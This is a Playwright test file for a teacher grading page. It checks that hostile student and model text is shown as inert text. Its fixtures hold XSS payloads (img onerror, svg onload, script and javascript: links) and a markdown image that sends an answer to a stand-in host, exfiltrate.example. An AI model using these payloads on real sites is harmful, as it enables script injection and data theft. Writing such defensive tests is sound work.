import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { sampleFromSchema } from "../helpers/sample-replies.js";
import { scienceRubric } from "../helpers/rubric-fixtures.js";
import {
  browserRequired,
  chromiumFound,
  screenshot,
  startHarness,
  type Harness,
} from "./teacher-page-harness.js";

/**
 * The teacher page as a hostile student and a busy teacher meet it: student text with markup, bidi
 * overrides and unbroken 20,000-character words; the API failing in the middle of a decision (401, 403,
 * 409, 412, 429, 503); two reviewers on one grade; a double approval; the keyboard alone; a queue of
 * thousands. Each test uses its own rubric (its id is what the queue shows), so the tests share one server
 * and one browser without depending on each other's order.
 */

/** What the fake model writes into every free-text field of its reply for answers that carry `MODEL-HTML`. */
const modelHtml = `<img src=x onerror="window.__pwned='model'"><a href="javascript:window.__pwned='link'">see</a>`;
const hostileHtml = [
  `<img src=x onerror="window.__pwned='img'">`,
  `<svg onload="window.__pwned='svg'"><script>window.__pwned='script'</script></svg>`,
  `[click me](javascript:window.__pwned='md')`,
  `![x](http://exfiltrate.example/steal?answer=1)`,
  `<a href="javascript:window.__pwned='a'">a link</a>`,
  "MODEL-HTML",
].join(" ");

describe.skipIf(!chromiumFound && !browserRequired)(
  "the teacher page against hostile text and a failing API",
  { timeout: 120_000 },
  () => {
    let harness: Harness;
    let context: BrowserContext;
    let page: Page;
    const teacher = () => ({ authorization: `Bearer ${harness.teacherKey}` });
    const otherHosts: string[] = [];

    /** A copy of the science rubric under `id` (the queue shows the id), optionally with other titles. */
    const uploadRubric = async (id: string, changes: Partial<typeof scienceRubric> = {}) => {
      const response = await harness.app.app.inject({
        method: "POST",
        url: "/v1/rubrics",
        headers: teacher(),
        payload: { ...scienceRubric, id, ...changes },
      });
      expect(response.statusCode, response.body).toBe(201);
    };
    /** Grades an answer through the API; the fake model's evidence is not in it, so it needs review. */
    const gradeForReview = async (rubricId: string, answer: string) => {
      const response = await harness.app.app.inject({
        method: "POST",
        url: "/v1/grade",
        headers: teacher(),
        payload: { rubricId, answer },
      });
      expect(response.statusCode, response.body).toBe(200);
      const grade = response.json<{ id: string; status: string; version: number; groupId: string | null }>();
      expect(grade.status).toBe("needs_review");
      return grade;
    };
    const queue = () => page.getByRole("list", { name: "Answers to review" });
    /** Opens the review screen on the (only) queue entry of `rubricId`. */
    const openEntry = async (rubricId: string) => {
      await page.goto(`${harness.baseUrl}/app/#/rubrics`);
      await page.getByRole("link", { name: "Review" }).click();
      const entry = queue().getByRole("button", { name: new RegExp(`^${rubricId} `) });
      await entry.first().waitFor();
      await entry.first().click();
      await page.getByRole("heading", { name: new RegExp(` · ${rubricId}$`) }).waitFor();
    };
    const signIn = async (target: Page = page) => {
      await target.goto(`${harness.baseUrl}/app/`);
      await target.getByLabel("API key").fill(harness.teacherKey);
      await target.getByLabel("Your name").fill("Ms Rivera");
      await target.getByRole("button", { name: "Sign in" }).click();
      await target.getByRole("heading", { name: "Rubrics", level: 1 }).waitFor();
    };

    beforeAll(async () => {
      harness = await startHarness();
      harness.fake.setDefault({
        kind: "respond",
        handler: (request) => {
          if (!request.schema) return "ok";
          const reply = sampleFromSchema(request.schema, { evidenceQuotes: ["not in the answer"] });
          if (!(request.answer ?? "").includes("MODEL-HTML")) return reply;
          return JSON.parse(JSON.stringify(reply).replaceAll('"sample text"', JSON.stringify(modelHtml)));
        },
      });
      context = await harness.browser.newContext({ viewport: { width: 1280, height: 900 } });
      // Nothing the page shows may reach another host (a markdown image would tell it the answer).
      await context.route(
        (url) => !url.href.startsWith(harness.baseUrl),
        (route) => {
          otherHosts.push(route.request().url());
          return route.abort();
        },
      );
      page = await context.newPage();
      await signIn();
    }, 120_000);
    afterAll(async () => {
      await harness?.close();
    }, 60_000);
    beforeEach(async () => {
      await page.unrouteAll({ behavior: "ignoreErrors" });
    });

    it("shows markup in answers, model text and rubric titles as text: nothing runs, nothing loads", async () => {
      await uploadRubric("xss-probe", { title: `<img src=x onerror="window.__pwned='title'">` });
      await gradeForReview("xss-probe", hostileHtml);
      await openEntry("xss-probe");
      const detail = page.locator(".review-detail");
      await detail.getByText("[click me](javascript:", { exact: false }).first().waitFor();
      expect(await detail.locator("img, svg, script, a, iframe, object").count()).toBe(0);
      expect(await detail.locator(".answer").textContent()).toContain(`<img src=x onerror=`);
      expect(await page.locator(".rationale").first().textContent()).toBe(modelHtml);
      expect(await page.evaluate("window.__pwned")).toBeUndefined();
      expect(otherHosts).toEqual([]);
      await screenshot(page, "hostile-01-markup");
    });

    it("keeps a 20,000-character word inside its box", async () => {
      await uploadRubric("long-probe");
      await gradeForReview("long-probe", `Plants need ${"w".repeat(19_900)} light.`);
      await openEntry("long-probe");
      const answer = page.locator(".review-detail .answer");
      const box = await answer.evaluate((element) => ({
        scroll: element.scrollWidth,
        client: element.clientWidth,
      }));
      expect(box.scroll).toBeLessThanOrEqual(box.client);
      expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(1280);
      await screenshot(page, "hostile-02-long-word", false);
    });

    it("keeps a bidi override in a criterion title from reversing the points beside it", async () => {
      await uploadRubric("bidi-probe", {
        criteria: [
          scienceRubric.criteria[0]!,
          { ...scienceRubric.criteria[1]!, title: "Outputs\u202e", maxPoints: 12 },
        ],
      });
      await gradeForReview("bidi-probe", "Plants make sugar \u202eand oxygen 12 from light.");
      await openEntry("bidi-probe");
      // Where the browser draws the "(", the "1" and the "2" of "(of 12)": left to right, in that order.
      const order: { open: number; one: number; two: number } | null = await page.evaluate(`(() => {
        const label = [...document.querySelectorAll("label")].find((each) => each.textContent.includes("(of 12)"));
        const walker = document.createTreeWalker(label, NodeFilter.SHOW_TEXT);
        for (let node = walker.nextNode(); node; node = walker.nextNode()) {
          const at = node.textContent.indexOf("(of 12)");
          if (at === -1) continue;
          const x = (offset) => {
            const range = document.createRange();
            range.setStart(node, at + offset);
            range.setEnd(node, at + offset + 1);
            return range.getBoundingClientRect().x;
          };
          return { open: x(0), one: x(4), two: x(5) };
        }
        return null;
      })()`);
      expect(order).not.toBeNull();
      expect(order!.one).toBeLessThan(order!.two);
      expect(order!.open).toBeLessThan(order!.one);
      await screenshot(page, "hostile-03-bidi", false);
    });
  },
);
